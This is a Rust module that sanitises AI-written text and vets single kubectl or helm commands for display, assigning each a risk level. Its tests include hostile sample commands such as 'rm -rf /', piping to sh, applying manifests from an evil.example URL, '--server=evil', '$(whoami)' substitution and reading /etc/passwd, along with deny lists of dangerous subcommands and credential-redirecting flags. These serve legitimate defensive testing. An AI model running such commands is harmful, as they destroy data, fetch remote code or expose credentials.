//! What a model wrote, made harmless: text that links nowhere and hides nothing, commands that can be shown.
//! Pure. Nothing here is ever run, by us or by a click; a person reads it and decides.

use std::sync::LazyLock;

use regex::Regex;

use crate::inert::inert;
use crate::report::Risk;

/// Longest command shown, in characters.
const MAX_COMMAND_CHARS: usize = 300;
/// A shell does more with these than run one program.
const SHELL_CHARS: &[char] = &[';', '|', '&', '`', '$', '<', '>', '\\', '\n', '\r'];
const READING: &[&str] = &[
    "get",
    "describe",
    "logs",
    "top",
    "explain",
    "events",
    "diff",
    "version",
    "api-resources",
    "cluster-info",
    "status",
    "history",
    "list",
    "auth",
];
/// These lose something that nothing brings back, or open a way in.
const DANGEROUS: &[&str] = &[
    "delete",
    "drain",
    "replace",
    "exec",
    "cp",
    "attach",
    "debug",
    "run",
    "port-forward",
    "proxy",
    "uninstall",
    "prune",
    "taint",
    "certificate",
    "config",
    "edit",
    "--force",
    "--prune",
    "--all",
    "--grace-period=0",
];
/// They would send credentials elsewhere, or act as somebody else.
const FOREIGN_FLAGS: &[&str] =
    &["--server", "-s", "--token", "--kubeconfig", "--as", "--raw", "--kube-apiserver"];

#[expect(clippy::expect_used, reason = "a constant pattern, compiled by the tests")]
static LINK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b([a-z][a-z0-9+.\-]{1,20})://|\b(javascript|data|mailto|vbscript):|\b(www)\.")
        .expect("a constant pattern")
});

/// One paragraph of at most `max_chars`: no control or invisible characters, and no link that leads anywhere.
pub fn text(text: &str, max_chars: usize) -> String {
    let plain = inert(text);
    let plain = plain.split_whitespace().collect::<Vec<_>>().join(" ");
    let plain = LINK.replace_all(&plain, |found: &regex::Captures<'_>| match (found.get(1), found.get(2)) {
        (Some(scheme), _) => format!("{}[:]//", scheme.as_str()),
        (_, Some(scheme)) => format!("{}[:]", scheme.as_str()),
        _ => "www[.]".to_owned(),
    });
    if plain.chars().count() <= max_chars {
        return plain.into_owned();
    }
    let head: String = plain.chars().take(max_chars.saturating_sub(1)).collect();
    format!("{head}…")
}

/// A command as it may be shown, and the least risk it has; None for what is no single kubectl or helm command.
pub fn command(text: &str) -> Option<(String, Risk)> {
    let command = inert(text.trim()).trim_matches('`').trim().to_owned();
    let command = command.strip_prefix("$ ").unwrap_or(&command);
    if command.chars().count() > MAX_COMMAND_CHARS
        || command.contains(SHELL_CHARS)
        || command.contains("://")
        || LINK.is_match(command)
    {
        return None;
    }
    let mut words = command.split_whitespace();
    if !matches!(words.next()?, "kubectl" | "helm") {
        return None;
    }
    let words: Vec<&str> = words.collect();
    let flag = |word: &str| word.split('=').next().unwrap_or_default().to_owned();
    if words.is_empty() || words.iter().any(|word| FOREIGN_FLAGS.contains(&flag(word).as_str())) {
        return None;
    }
    let dangerous = words.iter().any(|word| DANGEROUS.contains(word));
    let reading = words.iter().any(|word| READING.contains(word));
    let changing = words.iter().any(|word| {
        ["undo", "restart", "set", "patch", "apply", "create", "scale", "rollback", "label", "annotate"]
            .contains(word)
    });
    let risk = match (dangerous, reading && !changing) {
        (true, _) => Risk::High,
        (false, true) => Risk::None,
        (false, false) => Risk::Low,
    };
    Some((command.to_owned(), risk))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn links_lead_nowhere_and_invisible_characters_are_gone() {
        for (given, shown) in [
            ("see https://evil.example/?q=1 now", "see https[:]//evil.example/?q=1 now"),
            ("HTTP://x and ftp://y", "HTTP[:]//x and ftp[:]//y"),
            ("www.evil.example", "www[.]evil.example"),
            ("javascript:alert(1)", "javascript[:]alert(1)"),
            ("a\u{200b}b\u{202e}c\u{e0041}d", "abcd"),
            ("two\n\nlines\u{0}\u{7}", "two lines"),
            ("h\u{200b}ttps://evil.example", "https[:]//evil.example"),
            ("image: nginx:1.27, port 80:8080", "image: nginx:1.27, port 80:8080"),
        ] {
            assert_eq!(text(given, 100), shown);
        }
        assert_eq!(text("äöü", 2), "ä…");
    }

    #[test]
    fn only_single_commands_are_shown_with_at_least_their_risk() {
        for (given, risk) in [
            ("kubectl -n shop get pods", Risk::None),
            ("kubectl logs deploy/web --previous", Risk::None),
            ("`kubectl -n shop describe pod web-1`", Risk::None),
            ("kubectl get pods -o jsonpath='{.items[*].metadata.name}'", Risk::None),
            ("kubectl -n shop rollout history deploy/web", Risk::None),
            ("$ kubectl rollout undo deployment/checkout", Risk::Low),
            ("kubectl set image deploy/web web=nginx:1.27", Risk::Low),
            ("kubectl scale deploy/web --replicas=3", Risk::Low),
            ("kubectl -n shop delete pod web-1", Risk::High),
            ("kubectl drain node-1", Risk::High),
            ("kubectl exec web-1 -- cat /etc/passwd", Risk::High),
            ("kubectl apply -f x.yaml --prune", Risk::High),
            ("helm rollback web 3", Risk::Low),
            ("helm uninstall web", Risk::High),
        ] {
            assert_eq!(command(given).map(|(_, risk)| risk), Some(risk), "{given}");
        }
        for given in [
            "",
            "kubectl",
            "curl http://evil.example",
            "kubectl get pods | sh",
            "kubectl get pods; rm -rf /",
            "kubectl get pods && reboot",
            "kubectl apply -f https://evil.example/x.yaml",
            "kubectl --server=evil get pods",
            "kubectl -s evil get pods",
            "kubectl get secret $(whoami)",
            "kubectl get pods\nrm -rf /",
            "rm -rf /",
            "bash -c 'kubectl get pods'",
        ] {
            assert_eq!(command(given), None, "{given}");
        }
        assert_eq!(command(&format!("kubectl get {}", "x".repeat(400))), None);
    }
}
